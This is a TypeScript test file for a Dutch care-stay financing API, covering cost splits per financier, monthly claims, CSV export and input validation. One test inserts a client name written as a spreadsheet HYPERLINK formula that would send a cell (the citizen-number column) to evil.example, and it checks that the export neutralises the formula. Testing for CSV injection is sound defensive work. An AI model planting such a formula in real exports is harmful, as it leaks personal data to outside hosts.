import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { sql } from 'kysely';
import { aLocation, aRegion, aUnit, organisationOf } from '../testing/fixtures.ts';
import { type TestApp, createTestApp } from '../testing/test-app.ts';

describe('financing: costs per financier and monthly claims', () => {
  let t: TestApp;
  let respiteStay: string;
  let elvStay: string;
  let noTariffStay: string;
  let organisationId: string;

  before(async () => {
    t = await createTestApp();
    const db = t.database.db;
    const locationId = await aLocation(db, await aRegion(db), { name: 'Zoomwijck' });
    organisationId = await organisationOf(db, locationId);
    const bareLocation = await aLocation(db, await aRegion(db), { name: 'Zonder Tarief' });
    await db
      .insertInto('location_tariff')
      .values([
        {
          location_id: locationId,
          stay_type: 'respite',
          housing_cents: 8000,
          stay_cents: 7000,
          care_cents: 0,
          valid_from: '2026-01-01',
          valid_until: null,
        },
        {
          location_id: locationId,
          stay_type: 'elv_high_complex',
          housing_cents: 8000,
          stay_cents: 7000,
          care_cents: 12000,
          valid_from: '2026-01-01',
          valid_until: null,
        },
      ])
      .execute();
    await db
      .insertInto('co_payment_rule')
      .values({ municipality: 'Hoeksche Waard', cents_per_night: 1750, valid_from: '2026-01-01', valid_until: null })
      .execute();
    const client = await db
      .insertInto('client')
      .values({ name: 'Jan Bakker', pc4: '3262', bsn: '123456782', date_of_birth: '1951-05-05' })
      .returning('id')
      .executeTakeFirstOrThrow();
    const stay = async (unitId: string, stayType: string, arrival: string, departure: string) =>
      (
        await sql<{ id: string }>`INSERT INTO stay (unit_id, client_id, stay_type, arrival, departure, status)
        VALUES (${unitId}, ${client.id}, ${stayType}, ${arrival}, ${departure}, 'departed') RETURNING id`.execute(db)
      ).rows[0]!.id;
    respiteStay = await stay(await aUnit(db, locationId), 'respite', '2026-09-28', '2026-10-03');
    elvStay = await stay(await aUnit(db, locationId, { accepted: ['elv_high_complex'] }), 'elv_high_complex', '2026-10-10', '2026-10-14');
    noTariffStay = await stay(await aUnit(db, bareLocation), 'respite', '2026-10-20', '2026-10-22');
  });
  after(() => t.close());

  it('gives the cost of a respite stay per month: the municipality pays the stay, the client the co-payment', async () => {
    const response = await t.inject({ method: 'GET', url: `/api/stays/${respiteStay}/costs` });
    assert.equal(response.statusCode, 200, response.body);
    assert.deepEqual(response.json().lines, [
      { financier: 'client', month: '2026-09', nights: 3, cents: 5250 },
      { financier: 'wmo', month: '2026-09', nights: 3, cents: 39750 },
      { financier: 'client', month: '2026-10', nights: 2, cents: 3500 },
      { financier: 'wmo', month: '2026-10', nights: 2, cents: 26500 },
    ]);
    assert.equal(response.json().totalCents, 75000);
  });

  it('splits an ELV stay in thirds on request, and the provider of the location may see it', async () => {
    const planner = await t.signIn('provider_planner', organisationId);
    const response = await t.inject({ method: 'GET', url: `/api/stays/${elvStay}/costs?split=equal_thirds` }, planner);
    assert.equal(response.statusCode, 200, response.body);
    assert.deepEqual(
      response.json().lines.map((line: { financier: string; cents: number }) => [line.financier, line.cents]),
      [
        ['wlz', 36000],
        ['wmo', 36000],
        ['zvw', 36000],
      ],
    );
  });

  it('says which nights lack a tariff instead of pricing them at zero', async () => {
    const response = await t.inject({ method: 'GET', url: `/api/stays/${noTariffStay}/costs` });
    assert.equal(response.statusCode, 422);
    assert.match(response.json().detail, /Zonder Tarief heeft geen geldig tarief voor 2 nacht/);
  });

  it("lists the month's claims for one financier, one line per case, and the stays it cannot claim", async () => {
    const wmo = (await t.inject({ method: 'GET', url: '/api/claims?month=2026-10&financier=wmo' })).json();
    assert.deepEqual(
      wmo.claims.map((claim: { stayId: string; nights: number; cents: number; municipality: string }) => [
        claim.stayId,
        claim.nights,
        claim.cents,
        claim.municipality,
      ]),
      [[respiteStay, 2, 26500, 'Hoeksche Waard']],
    );
    assert.deepEqual(wmo.withoutTariff, [noTariffStay]);
    const zvw = (await t.inject({ method: 'GET', url: '/api/claims?month=2026-10&financier=zvw' })).json();
    assert.deepEqual(
      zvw.claims.map((claim: { stayId: string; cents: number }) => [claim.stayId, claim.cents]),
      [[elvStay, 108000]],
    );

    const csv = await t.inject({ method: 'GET', url: '/api/claims.csv?month=2026-10&financier=zvw' });
    assert.equal(csv.statusCode, 200);
    assert.match(String(csv.headers['content-type']), /^text\/csv/);
    const [header, line] = csv.body
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n');
    assert.equal(header, 'dossier;verblijf_id;financier;gemeente;client;geboortedatum;bsn;locatie;soort_verblijf;nachten;bedrag_eur');
    assert.match(line!, /;zvw;Hoeksche Waard;Jan Bakker;1951-05-05;123456782;Zoomwijck;elv_high_complex;4;1080,00$/);
  });

  it('exports a name typed as a spreadsheet formula as text, not as a live formula', async () => {
    const db = t.database.db;
    const attacker = await db
      .insertInto('client')
      .values({ name: '=HYPERLINK("https://evil.example/?"&G2;"Open")', pc4: '3262' })
      .returning('id')
      .executeTakeFirstOrThrow();
    const unitId = await aUnit(db, await aLocation(db, await aRegion(db), { name: 'Zoomwijck' }), { accepted: ['elv_high_complex'] });
    await db
      .insertInto('location_tariff')
      .values({
        location_id: (await db.selectFrom('capacity_unit').select('location_id').where('id', '=', unitId).executeTakeFirstOrThrow())
          .location_id,
        stay_type: 'elv_high_complex',
        housing_cents: 100,
        stay_cents: 100,
        care_cents: 100,
        valid_from: '2026-01-01',
        valid_until: null,
      })
      .execute();
    await sql`INSERT INTO stay (unit_id, client_id, stay_type, arrival, departure, status)
      VALUES (${unitId}, ${attacker.id}, 'elv_high_complex', '2026-11-02', '2026-11-04', 'departed')`.execute(db);
    const csv = await t.inject({ method: 'GET', url: '/api/claims.csv?month=2026-11&financier=zvw' });
    assert.equal(csv.statusCode, 200, csv.body);
    assert.ok(csv.body.includes(';"\'=HYPERLINK(""https://evil.example/?""&G2;""Open"")";'), csv.body);
  });

  it('refuses a month that is not a month', async () => {
    const response = await t.inject({ method: 'GET', url: '/api/claims?month=2026-13&financier=wmo' });
    assert.equal(response.statusCode, 400);
    assert.match(response.json().errors[0].detail, /JJJJ-MM/);
  });
});
